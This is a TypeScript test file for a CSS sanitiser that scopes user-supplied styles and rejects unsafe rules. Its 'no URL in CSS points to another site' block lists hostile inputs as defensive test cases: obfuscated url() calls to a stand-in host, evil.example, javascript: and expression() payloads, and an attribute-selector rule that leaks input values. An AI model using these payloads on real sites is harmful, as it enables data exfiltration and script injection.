import * as tokenizer from 'css-tree/tokenizer';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { TOKEN } from './css-tokens.js';
import { cssIssues, MAX_CSS_LENGTH, scopedCss } from './safe-css.js';

const GUARD =
  ':not(:where([data-admin],[data-admin] *,.cr-admin,.cr-admin *,:has([data-admin],.cr-admin),[data-legal],[data-legal] *))';
const ELSEWHERE = ':not(:where(:has([data-legal])))';
/** Scoped CSS on one line; ¬ stands for the part added to each selector, and ° for that of a pseudo-element. */
const short = (css: string) =>
  scopedCss(css).replaceAll(GUARD, '¬').replaceAll(ELSEWHERE, '°').replaceAll('\n', '');

test('the token types are those of the tokenizer', () => {
  const theirs = tokenizer as unknown as Record<string, number>;
  expect(TOKEN).toMatchObject({ ident: theirs.Ident, url: theirs.Url, string: theirs.String });
  expect(TOKEN).toMatchObject({ function: theirs.Function, comment: theirs.Comment, cdc: theirs.CDC });
});

describe('every selector excludes the admin screens, and otherwise keeps its meaning', () => {
  test.each([
    ['html, body,:root , *{color:red}', 'html¬, body¬, :root¬, *¬{color:red;}'],
    ['a::before,a:after,a:first-line{color:y}', 'a¬°::before, a¬°:after, a¬°:first-line{color:y;}'],
    ['a::part(x):hover::before{color:y}', 'a¬°::part(x):hover::before{color:y;}'],
    ['::selection{color:y}', '¬°::selection{color:y;}'],
    ['.a > .b + .c ~ .d e{color:y}', '.a > .b + .c ~ .d e¬{color:y;}'],
    ['a:is(.b, .c > d):not([e="f,g"]){color:y}', 'a:is(.b, .c > d):not([e="f,g"])¬{color:y;}'],
    [
      '.a{color:red;&:hover{color:y} > .b, + c{color:y} .d{color:y}}',
      '.a¬{color:red;&:hover¬{color:y;}> .b¬, + c¬{color:y;}.d¬{color:y;}}',
    ],
    ['.a{b:hover{color:y}}', '.a¬{b:hover¬{color:y;}}'],
    ['.a{@media print{color:y;b{color:y}}}', '.a¬{@media print{color:y;b¬{color:y;}}}'],
    [
      '@media (400px<=width){@supports (x:y){a{color:y}}}',
      '@media (400px<=width){@supports (x:y){a¬{color:y;}}}',
    ],
    ['@container side (width > 9em){a{color:y}}', '@container side (width > 9em){a¬{color:y;}}'],
    ['@layer a, b;@layer a{a{color:y}}', '@layer a, b;@layer a{a¬{color:y;}}'],
    [
      '@scope (.a) to (.b){:scope{color:y}img{color:y}}',
      '@scope (.a) to (.b){:scope¬{color:y;}img¬{color:y;}}',
    ],
    ['@starting-style{a{color:y}}', '@starting-style{a¬{color:y;}}'],
    ['@keyframes fade{from{color:y}50.5%,to{color:y}}', '@keyframes fade{from{color:y;}50.5%,to{color:y;}}'],
    [
      '@font-face{font-family:"Own";src:url(/own.woff2) format("woff2")}',
      '@font-face{font-family:"Own";src:url(/own.woff2) format("woff2");}',
    ],
    ['.a/* , */.b{color/**/:y}', '.a/**/.b¬{color/**/:y;}'],
    ['a{--open:{b:c};--empty:;color:y!important}', 'a¬{--open:{b:c};--empty:;color:y!important;}'],
    ['a{color:if(style(--x:1):red;else:blue)}', 'a¬{color:if(style(--x:1):red;else:blue);}'],
    [
      "a{background:url(/a.png),url('data:image/png;base64,AA=='),url(#mask)}",
      "a¬{background:url(/a.png),url('data:image/png;base64,AA=='),url(#mask);}",
    ],
    ['', ''],
  ])('%s', (css, scoped) => {
    expect(cssIssues(css)).toEqual([]);
    expect(short(css)).toBe(scoped);
  });
});

describe('a fault is reported with its position, and faulty CSS is not used', () => {
  test.each([
    ['a{color:red}\n\n  b { colour }', 3, 7, "'colour' is no declaration: the : is missing"],
    ['a{color:red', 1, 2, "'{' is never closed"],
    ['a{}\r\n}b{}', 2, 1, "This '}' closes nothing that is open"],
    ['a{b:c};', 1, 7, 'A ; has no place between rules'],
    ['a', 1, 1, "'a' is no rule: the { is missing"],
    ['{x:y}', 1, 1, "A selector is missing in ''"],
    ['a,,b{x:y}', 1, 1, "A selector is missing in 'a,,b'"],
    ['a >{x:y}', 1, 1, "The selector 'a >' ends too early"],
    ['.1a{x:y}', 1, 2, 'Identifier is expected'],
    ['a{color: red\nb{x:y}}', 1, 9, 'Identifier is expected'],
    [
      '@import "x.css";',
      1,
      1,
      '@import would fetch CSS that nobody has checked; put the rules themselves here',
    ],
    ['@page{margin:0}', 1, 1, '@page has no place here'],
    ['@media print;', 1, 1, '@media needs a block: { … }'],
    ['@keyframes x{a{x:y}}', 1, 14, "A step of an animation is from, to or a percentage, not 'a'"],
    ['@keyframes cr-in{from{x:y}}', 1, 1, 'The name cr-in is used by the site itself; take another'],
    ['@property --cr-ink{syntax:"*"}', 1, 1, 'The name --cr-ink is used by the site itself; take another'],
    [
      '@layer croupier.tokens{a{x:y}}',
      1,
      1,
      'The name croupier.tokens is used by the site itself; take another',
    ],
    ['@font-face{font-family:"Croupier Title"}', 1, 1, 'is used by the site itself; take another'],
    ['@keyframes \\63r-in{from{x:y}}', 1, 1, 'A name must be written without \\ and <'],
    ['a{b:"x\ny"}', 1, 5, 'This quotation is not closed on its line'],
    ['a{b:c}/* x', 1, 7, 'This comment is never closed'],
    ['a{b:url(/x', 1, 5, 'This address is never closed'],
    ['@layer "x', 1, 8, 'This quotation is never closed'],
    ['/* </style> */', 1, 4, 'HTML has no place in CSS'],
    [`${'a{'.repeat(60)}${'}'.repeat(60)}`, 1, 82, 'Brackets stand in each other more than 40 deep'],
  ])('%j', (css, line, column, message) => {
    expect(cssIssues(css)[0]).toEqual({ line, column, message: expect.stringContaining(message) });
    expect(scopedCss(css)).toBe('');
  });

  test('at most 20 faults are reported, and CSS that is too long is not parsed', () => {
    expect(cssIssues('a{b}'.repeat(100))).toHaveLength(20);
    expect(cssIssues(' '.repeat(MAX_CSS_LENGTH + 1))).toHaveLength(1);
  });
});

describe('no URL in CSS points to another site', () => {
  test.each([
    'a{background:url(//evil.example/x)}',
    'a{background:url("https://evil.example/x")}',
    "a{background:URL('http://evil.example')}",
    'a{background:url( \thttps://evil.example )}',
    'a{background:url(/\\evil.example)}',
    'a{background:url(\\2f\\2f evil.example)}',
    'a{background:\\75rl(//evil.example)}',
    'a{background:u\\72l("//evil.example")}',
    'a{background:url(x.png)}',
    'a{background:url()}',
    'a{background:url("data:text/html,<b>")}',
    'a{background:url(javascript:alert(1))}',
    'a{background:url("java\\\nscript:alert(1)")}',
    'a{background:image-set("//evil.example" 1x)}',
    'a{background:-webkit-image-set(url(//evil.example) 1x)}',
    'a{background:image-set(var(--x) 1x)}',
    'a{background:src(var(--x))}',
    'a{background:image-set(attr(data-x type(<string>)) 1x)}',
    'a{--x:url(//evil.example)}',
    'a{--x:{b:url(//evil.example)}}',
    'input[value^="a"]{background:url(//evil.example/a)}',
    '@font-face{font-family:x;src:url(//evil.example/x.woff2)}',
    '@property --x{syntax:"<url>";inherits:false;initial-value:url(//evil.example)}',
    '@supports (background:url(//evil.example)){a{b:c}}',
    '@import url(//evil.example);',
    '@im\\70ort "//evil.example";',
    '@namespace x "//evil.example";',
    '@media print{a{cursor:url(//evil.example),auto}}',
    'a{width:expression(alert(1))}',
    'a{content:image("//evil.example")}',
    'a{background:cross-fade("//evil.example", red)}',
  ])('%s', (css) => {
    expect(cssIssues(css).length).toBeGreaterThan(0);
    expect(scopedCss(css)).toBe('');
  });
});

test('the output has no faults and cannot close a style element, whatever the input is', () => {
  const piece = fc.constantFrom(
    ...[
      'a',
      '.b',
      ':hover',
      '::before',
      '&',
      '>',
      ',',
      ' ',
      '{',
      '}',
      ';',
      'x:y',
      '--z:',
      '(',
      ')',
      '[c]',
      '"',
      "'",
    ],
    ...[
      '/*',
      '*/',
      '@media print',
      '@layer q',
      '@keyframes k',
      'from',
      'url(',
      '//evil.example',
      '/p',
      '\\',
      '<',
      '/',
      '!',
    ],
    ...['a{x:y}', '.b > c{x:y}', '@media print{', 'a{x:"<\\/"}', '@scope (.s){'],
  );
  let used = 0;
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
      const css = pieces.join('');
      const scoped = scopedCss(css);
      if (scoped === '') return;
      used++;
      expect(cssIssues(scoped)).toEqual([]);
      expect(scoped).not.toMatch(/<[/!]/);
      // What stands in a string is text: `@layer q'url('`.
      expect(scoped.replace(/"(?:[^"\\]|\\.)*"|'(?:[^'\\]|\\.)*'/gs, '""')).not.toMatch(/\burl\((?!\/p)/);
    }),
    { numRuns: 3_000, examples: [[['@layer q', "'", 'url(', "'"]]] },
  );
  expect(used).toBeGreaterThan(50);
});
